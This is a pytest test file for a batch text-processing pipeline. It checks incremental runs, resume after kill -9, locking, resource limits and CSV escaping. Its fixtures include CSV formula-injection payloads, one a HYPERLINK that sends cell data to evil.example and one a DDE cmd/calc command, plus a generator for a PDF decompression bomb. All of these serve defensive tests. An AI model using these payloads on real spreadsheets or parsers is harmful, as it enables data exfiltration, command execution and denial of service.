"""Batch runs: incremental re-runs, resume after kill -9, isolation (time and memory limits), the run
lock, CSV-injection neutralising and the manifest."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from pipeline.config import Config
from pipeline.errors import ConfigError
from pipeline.batch.lock import RunLock
from pipeline.batch.runner import RunSummary, run
from pipeline.write.tables import escape_csv_cell

ROOT = Path(__file__).resolve().parent.parent
TABLE_FILES = [f"{t}.{ext}" for t in ("documents", "figures", "places", "institutions") for ext in ("csv", "parquet")]
INJECTION = (
    "Hostile cells\n\n"
    '=HYPERLINK("http://evil.example/?leak="&A1,"HK$5 million") The Government will spend HK$5 million in Kowloon.\n\n'
    "+cmd|' /C calc'!A0 The Housing Authority completed 2 000 flats in Sha Tin.\n\n"
    "@SUM(1+1) The Lands Department resumed 120 hectares in Kwu Tung.\n\n"
    "-2+3 The Development Bureau spent HK$30 million in Tuen Mun.\n"
)


def digests(out: Path) -> dict[str, tuple[str, int]]:
    """Content hash and mtime (ns) of every table file (the four tables and any others beside them)."""
    files = sorted(p for p in out.iterdir() if p.suffix in (".csv", ".parquet", ".json"))
    assert {p.name for p in files} >= set(TABLE_FILES)
    return {p.name: (hashlib.sha256(p.read_bytes()).hexdigest(), p.stat().st_mtime_ns) for p in files}


def read_csv(out: Path, table: str) -> list[dict[str, str]]:
    import csv

    with (out / f"{table}.csv").open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def make_corpus(corpus: Path) -> None:
    corpus.mkdir(parents=True)
    for path in sorted((ROOT / "corpus").iterdir()):
        shutil.copy(path, corpus / path.name)
    (corpus / "hostile.txt").write_text(INJECTION, encoding="utf-8")


# -- incremental runs ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def incremental(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """A sequence of runs over one output folder: first, unchanged, edited (add/change/remove), force."""
    base = tmp_path_factory.mktemp("incremental")
    corpus, out = base / "corpus", base / "out"
    make_corpus(corpus)
    steps: dict[str, Any] = {"out": out, "corpus": corpus}
    steps["first"] = run(Config(corpus=corpus, out=out))
    steps["first_tables"] = digests(out)
    steps["first_manifest"] = json.loads((out / "manifest.json").read_text())
    steps["unchanged"] = run(Config(corpus=corpus, out=out))
    steps["unchanged_tables"] = digests(out)
    touched = corpus / "smart-city-gba.txt"
    os.utime(touched, ns=(touched.stat().st_atime_ns, touched.stat().st_mtime_ns + 10**9))
    steps["touched"] = run(Config(corpus=corpus, out=out))
    steps["touched_tables"] = {k: v for k, v in digests(out).items() if k != "manifest.json"}
    steps["touched_stat"] = json.loads((out / "manifest.json").read_text())["documents"]["smart-city-gba.txt"]["stat"]
    steps["touched_mtime"] = touched.stat().st_mtime_ns
    # edit the corpus: one new, one changed, one removed document
    (corpus / "new-note.txt").write_text("The Transport Department will add 300 buses in Yuen Long.\n")
    with (corpus / "smart-city-gba.txt").open("a", encoding="utf-8") as fh:
        fh.write("\nThe Innovation and Technology Commission approved HK$12 million for Tsuen Wan.\n")
    removed = corpus / "northern-metropolis-progress.md"
    steps["removed_doc_id"] = hashlib.sha256(removed.read_bytes()).hexdigest()[:16]
    removed.unlink()
    steps["edited"] = run(Config(corpus=corpus, out=out))
    steps["edited_tables"] = digests(out)
    steps["forced"] = run(Config(corpus=corpus, out=out, force=True))
    return steps


@pytest.mark.slow
def test_first_run_processes_everything(incremental: dict[str, Any]) -> None:
    first: RunSummary = incremental["first"]
    assert (first.processed, first.reused, first.new) == (6, 0, 6)
    assert first.ok == 6 and first.failed == 0 and first.tables_written
    manifest = incremental["first_manifest"]
    assert sorted(manifest["documents"]) == sorted([p.name for p in (ROOT / "corpus").iterdir()] + ["hostile.txt"])
    assert set(manifest["tables"]) >= set(TABLE_FILES)
    assert dict(manifest["rows"]) == first.rows


@pytest.mark.slow
def test_unchanged_corpus_processes_nothing_and_rewrites_nothing(incremental: dict[str, Any]) -> None:
    unchanged: RunSummary = incremental["unchanged"]
    assert unchanged.processed == 0 and unchanged.reused == 6
    assert not unchanged.tables_written
    assert incremental["unchanged_tables"] == incremental["first_tables"]  # same bytes, same mtimes
    assert unchanged.rows == incremental["first"].rows


@pytest.mark.slow
def test_touched_file_is_rehashed_not_reprocessed(incremental: dict[str, Any]) -> None:
    touched: RunSummary = incremental["touched"]
    assert touched.processed == 0 and not touched.tables_written
    first = {k: v for k, v in incremental["first_tables"].items() if k != "manifest.json"}
    assert incremental["touched_tables"] == first
    assert incremental["touched_stat"][1] == incremental["touched_mtime"]  # the manifest follows the file


@pytest.mark.slow
def test_edited_corpus_processes_only_new_and_changed(incremental: dict[str, Any]) -> None:
    edited: RunSummary = incremental["edited"]
    out = incremental["out"]
    assert (edited.processed, edited.reused) == (2, 4)
    assert (edited.new, edited.changed, edited.removed) == (1, 1, 1)
    sources = {r["source"] for r in read_csv(out, "documents")}
    assert "new-note.txt" in sources and "northern-metropolis-progress.md" not in sources
    for table in ("figures", "places", "institutions"):
        assert "northern-metropolis-progress.md" not in {r["source"] for r in read_csv(out, table)}
    assert any("HK$12 million" == r["text"] for r in read_csv(out, "figures"))
    # the removed document's part and text are gone, the others' parts stay
    assert not list((out / "parts").glob(f"{incremental['removed_doc_id']}-*"))
    assert not (out / "text" / f"{incremental['removed_doc_id']}.txt").exists()


@pytest.mark.slow
def test_force_reprocesses_everything_with_the_same_result(incremental: dict[str, Any]) -> None:
    forced: RunSummary = incremental["forced"]
    assert (forced.processed, forced.reused) == (6, 0)
    out = incremental["out"]
    for name in ("figures.csv", "places.csv", "institutions.csv"):
        assert hashlib.sha256((out / name).read_bytes()).hexdigest() == incremental["edited_tables"][name][0]


@pytest.mark.slow
def test_pipeline_version_change_reprocesses_everything(incremental: dict[str, Any], tmp_path: Path) -> None:
    """A user gazetteer is part of the pipeline version: adding one redoes every document."""
    out = tmp_path / "out"
    shutil.copytree(incremental["out"], out)
    gazetteer = tmp_path / "gazetteer.places.extra.jsonl"
    gazetteer.write_text(json.dumps({"id": "place:test-kwu-tung-north", "table": "place",
                                     "canonical": "Kwu Tung North", "type": "new development area",
                                     "aliases": ["Kwu Tung North"]}) + "\n")
    summary = run(Config(corpus=incremental["corpus"], out=out, gazetteers=(gazetteer,)))
    assert (summary.processed, summary.reused) == (6, 0)


# -- CSV injection -------------------------------------------------------------------------------

@pytest.mark.slow
def test_formula_cells_are_neutralised_in_csv_and_raw_in_parquet(incremental: dict[str, Any]) -> None:
    import pandas as pd

    out = incremental["out"]
    csv_sentences = [r["sentence"] for r in read_csv(out, "figures") if r["source"] == "hostile.txt"]
    raw = pd.read_parquet(out / "figures.parquet")
    raw_sentences = list(raw[raw["source"] == "hostile.txt"]["sentence"])
    for start in ('=HYPERLINK("http://evil', "+cmd|", "@SUM(1+1)", "-2+3"):
        assert any(s.startswith("'" + start) for s in csv_sentences), start
        assert any(s.startswith(start) for s in raw_sentences), start
    assert not any(s.startswith(("=", "+", "@", "-")) for s in csv_sentences)
    # numbers stay numbers: the value column is written as plain numbers, never prefixed
    values = [r["value"] for r in read_csv(out, "figures") if r["source"] == "hostile.txt"]
    assert "5000000.0" in values and all(not v.startswith("'") for v in values)
    assert raw[raw["source"] == "hostile.txt"]["value"].dtype == "float64"


@pytest.mark.parametrize("cell, expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tlead", "'\tlead"), ("\rlead", "'\rlead"), ("-5", "-5"), ("+1.5", "+1.5"), ("-1,200.50", "-1,200.50"),
    ("plain = text", "plain = text"), ("", ""), (5.0, 5.0), (None, None), (-3, -3),
])
def test_escape_csv_cell(cell: Any, expected: Any) -> None:
    assert escape_csv_cell(cell) == expected


# -- resume after kill -9 ----------------------------------------------------------------------------

def cli(*args: str) -> list[str]:
    return [sys.executable, "-c", "from pipeline.cli.commands import main; main()", *args, "--workers", "1"]


@pytest.mark.slow
def test_sigkill_mid_batch_then_resume_gives_identical_tables(tmp_path: Path) -> None:
    """processed_at is the only per-run value in the tables; SOURCE_DATE_EPOCH pins it, so the resumed
    run must match an uninterrupted one byte for byte (all four tables, CSV and Parquet)."""
    corpus = tmp_path / "corpus"
    make_corpus(corpus)
    for i in range(24):  # enough documents that the kill lands mid-batch
        (corpus / f"note-{i:02d}.txt").write_text(
            f"Note {i}. The Government will spend HK${i + 1} million on {i + 3} parks in Sha Tin.\n")
    total = len(list(corpus.iterdir()))
    env = dict(os.environ, SOURCE_DATE_EPOCH="1767225600", PYTHONPATH=str(ROOT))
    killed_out, reference = tmp_path / "killed", tmp_path / "reference"
    proc = subprocess.Popen(cli("run", str(corpus), "--out", str(killed_out)), env=env,
                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while not list(killed_out.glob("parts/*.json")):  # the first document is committed
            assert proc.poll() is None, "the run ended before it could be killed"
            assert time.monotonic() < deadline
            time.sleep(0.005)
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        proc.wait()
    done_before = len(list((killed_out / "parts").glob("*.json")))
    assert 0 < done_before < total  # killed mid-batch
    assert not (killed_out / "figures.csv").exists()  # tables come at the end, never half-written
    assert json.loads((killed_out / ".lock").read_text())["pid"] == proc.pid  # a stale lock remains

    resumed = subprocess.run(cli("run", str(corpus), "--out", str(killed_out)), env=env,
                             capture_output=True, text=True)
    assert resumed.returncode == 0, resumed.stderr
    assert f"stale lock left by pid {proc.pid}" in resumed.stderr
    assert f"{done_before} unchanged" in resumed.stdout
    subprocess.run(cli("run", str(corpus), "--out", str(reference)), env=env, check=True,
                   capture_output=True)
    names = sorted(p.name for p in reference.iterdir() if p.suffix in (".csv", ".parquet", ".json"))
    assert set(names) >= set(TABLE_FILES) | {"manifest.json"}
    for name in names:
        assert (killed_out / name).read_bytes() == (reference / name).read_bytes(), name
    assert not list(killed_out.glob(".*.tmp")) and not list((killed_out / "parts").glob(".*"))


# -- isolation: time and memory limits -------------------------------------------------------------

def isolation_corpus(base: Path, name: str, size: int) -> Path:
    corpus = base / "corpus"
    corpus.mkdir()
    shutil.copy(ROOT / "corpus" / "smart-city-gba.txt", corpus / "a-good.txt")
    shutil.copy(ROOT / "corpus" / "northern-metropolis-progress.md", corpus / "z-good.md")
    sentence = "The Government will invest HK$2 billion in Kowloon East over the next five years. "
    with (corpus / name).open("w") as fh:
        for _ in range(size // (len(sentence) * 1000) + 1):
            fh.write(sentence * 1000)
    return corpus


@pytest.mark.slow
def test_document_over_the_time_limit_is_killed_and_the_batch_goes_on(tmp_path: Path) -> None:
    # 3 MB of prose takes spaCy well over a minute; the wall-clock limit kills the worker at 2 s.
    corpus = isolation_corpus(tmp_path, "slow.txt", 3 * 1024 * 1024)
    summary = run(Config(corpus=corpus, out=tmp_path / "out", timeout=2))
    rows = {r["source"]: r for r in read_csv(tmp_path / "out", "documents")}
    assert rows["slow.txt"]["status"] == "error"
    assert rows["slow.txt"]["error"].startswith("timed out: still running after 2 s (--timeout)")
    assert rows["a-good.txt"]["status"] == rows["z-good.md"]["status"] == "ok"
    assert {r["source"] for r in read_csv(tmp_path / "out", "figures")} >= {"a-good.txt", "z-good.md"}
    assert (summary.ok, summary.failed) == (2, 1)


@pytest.mark.slow
def test_document_over_the_memory_limit_becomes_an_error_row(tmp_path: Path) -> None:
    # 60 MB of markup: the page's element tree needs far more than the 700 MB address space (RLIMIT_AS)
    # the worker may use. (Plain text no longer does: it is cleaned in a few copies of itself, and then
    # the model's time, not memory, is the limit; the --timeout test covers that.)
    corpus = isolation_corpus(tmp_path, "big.html", 0)  # rewritten below
    element = "<p><b>HK$2 billion</b> in <i>Kowloon East</i> over the next <u>five</u> years.</p>\n"
    with (corpus / "big.html").open("w") as fh:
        fh.write("<html><body>")
        for _ in range(60 * 1024 * 1024 // (len(element) * 1000) + 1):
            fh.write(element * 1000)
        fh.write("</body></html>")
    summary = run(Config(corpus=corpus, out=tmp_path / "out", memory_limit=700, timeout=300))
    rows = {r["source"]: r for r in read_csv(tmp_path / "out", "documents")}
    assert rows["big.html"]["status"] == "error"
    assert "out of memory" in rows["big.html"]["error"] and "--memory-limit" in rows["big.html"]["error"]
    assert rows["a-good.txt"]["status"] == rows["z-good.md"]["status"] == "ok"
    assert {r["source"] for r in read_csv(tmp_path / "out", "figures")} >= {"a-good.txt", "z-good.md"}
    assert (summary.ok, summary.failed) == (2, 1)


def decompression_bomb_pdf(path: Path, megabytes: int) -> None:
    """A valid one-page PDF whose ~1.5 MB Flate content stream inflates to `megabytes` MB."""
    import zlib

    # Deflate one 1 MB block with a full flush (which resets the window), so the same compressed
    # bytes can be repeated; then wrap the raw deflate data as zlib (header + Adler-32).
    block, tail = b" " * (1 << 20), b"BT /F1 12 Tf 72 720 Td (HK$5 million) Tj ET"
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = co.compress(block) + co.flush(zlib.Z_FULL_FLUSH)
    adler = 1
    for _ in range(megabytes):
        adler = zlib.adler32(block, adler)
    stream = (b"\x78\xda" + piece * megabytes + co.compress(tail) + co.flush()
              + zlib.adler32(tail, adler).to_bytes(4, "big"))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    pdf = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(pdf))
        pdf += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(pdf)
    pdf += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    pdf += b"".join(b"%010d 00000 n \n" % o for o in offsets)
    pdf += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    path.write_bytes(bytes(pdf))


@pytest.mark.slow
def test_exploding_pdf_is_stopped_by_the_memory_limit(tmp_path: Path) -> None:
    # 1.5 MB on disk, 1.5 GB once its content stream is inflated: more than a 1024 MB worker may hold.
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    shutil.copy(ROOT / "corpus" / "smart-city-gba.txt", corpus / "a-good.txt")
    decompression_bomb_pdf(corpus / "bomb.pdf", 1536)
    assert (corpus / "bomb.pdf").stat().st_size < 4 * 1024 * 1024
    summary = run(Config(corpus=corpus, out=tmp_path / "out", memory_limit=1024, timeout=300))
    rows = {r["source"]: r for r in read_csv(tmp_path / "out", "documents")}
    assert rows["bomb.pdf"]["status"] == "error"
    # pdfium aborts when malloc fails (the worker dies); pure-Python parsers raise MemoryError
    assert "--memory-limit 1024 MB" in rows["bomb.pdf"]["error"] or "1024 MB allowed" in rows["bomb.pdf"]["error"]
    assert rows["a-good.txt"]["status"] == "ok"
    assert (summary.ok, summary.failed) == (1, 1)


# -- the run lock ----------------------------------------------------------------------------------

def test_second_run_on_the_same_output_refuses(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    with RunLock(tmp_path / "out"):
        with pytest.raises(ConfigError, match=r"another run is already writing to .*\(pid \d+ on "):
            run(Config(corpus=corpus, out=tmp_path / "out"))
    summary = run(Config(corpus=corpus, out=tmp_path / "out"))  # released: runs (an empty corpus)
    assert summary.processed == 0 and not summary.recovered_lock


def test_stale_lock_of_a_dead_process_is_recovered(tmp_path: Path) -> None:
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / ".lock").write_text(json.dumps({"pid": dead.pid, "host": "x", "started": "then"}))
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    summary = run(Config(corpus=corpus, out=tmp_path / "out"))
    assert f"stale lock left by pid {dead.pid}" in summary.recovered_lock
    assert (tmp_path / "out" / ".lock").read_text() == ""  # released at the end


@pytest.mark.slow
def test_damaged_part_or_text_is_redone(incremental: dict[str, Any], tmp_path: Path) -> None:
    """What a power cut can leave: a part cut short, a text file emptied. Both documents are redone."""
    out = tmp_path / "out"
    shutil.copytree(incremental["out"], out)
    parts = sorted((out / "parts").glob("*.json"))
    parts[0].write_text(parts[0].read_text()[:40])
    damaged_text = json.loads(parts[1].read_text())["document"]["doc_id"]
    (out / "text" / f"{damaged_text}.txt").write_text("")
    summary = run(Config(corpus=incremental["corpus"], out=out))
    assert (summary.processed, summary.reused) == (2, 4)
    for name in ("figures.csv", "places.csv", "institutions.csv"):
        assert (out / name).read_bytes() == (incremental["out"] / name).read_bytes()


@pytest.mark.slow
def test_concurrent_cli_run_exits_2_while_the_first_goes_on(tmp_path: Path) -> None:
    corpus = tmp_path / "corpus"
    make_corpus(corpus)
    for i in range(24):  # keeps the first run busy well past the second's start
        (corpus / f"note-{i:02d}.txt").write_text(f"Note {i}. The Government will spend HK${i + 1} million.\n")
    env = dict(os.environ, PYTHONPATH=str(ROOT))
    out = tmp_path / "out"
    first = subprocess.Popen(cli("run", str(corpus), "--out", str(out)), env=env,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 120
        while not ((out / ".lock").exists() and (out / ".lock").read_text().strip()):
            assert first.poll() is None and time.monotonic() < deadline
            time.sleep(0.01)
        second = subprocess.run(cli("run", str(corpus), "--out", str(out)), env=env, capture_output=True,
                                text=True, check=False)
        assert first.poll() is None  # the first run was still going when the second was refused
    finally:
        assert first.wait(timeout=300) == 0
    assert second.returncode == 2
    assert second.stderr.startswith(f"Error: another run is already writing to {out} (pid {first.pid} on ")
    assert second.stdout == ""
    assert (out / "figures.csv").exists()  # the first run finished its work undisturbed
